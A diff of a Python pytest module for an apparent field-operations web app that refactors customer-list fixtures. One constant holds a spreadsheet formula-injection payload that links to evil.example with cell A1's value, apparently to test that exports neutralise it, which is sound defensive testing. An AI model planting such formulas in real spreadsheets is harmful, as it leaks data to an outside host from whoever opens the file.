@@ -11,24 +11,31 @@ import openpyxl
 import pytest
 from asking import open_client
 from builders import a_customer, register_network
-from network_api import API, staff, the_app
+from grounds import grounds
+from network_api import API, Staff, staff, the_app
 
 from fieldops.actions import orders
 from fieldops.database.door import perform
-from fieldops.database.engine import FieldopsEngine
 from fieldops.web import lists
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"查看")'
 
 
-@pytest.fixture
-async def client(database: FieldopsEngine) -> AsyncIterator[httpx.AsyncClient]:
+async def lay_out() -> Staff:
     await register_network()
     await perform(
         orders.register_customers,
         [a_customer(code=f"C{n:03d}", name=FORMULA if n == 1 else "王芳") for n in range(60)],
     )
-    async with open_client(the_app(), await staff()) as client:
+    return await staff()
+
+
+someone = grounds(lay_out)
+
+
+@pytest.fixture
+async def client(someone: Staff) -> AsyncIterator[httpx.AsyncClient]:
+    async with open_client(the_app(), someone) as client:
         yield client
 
 
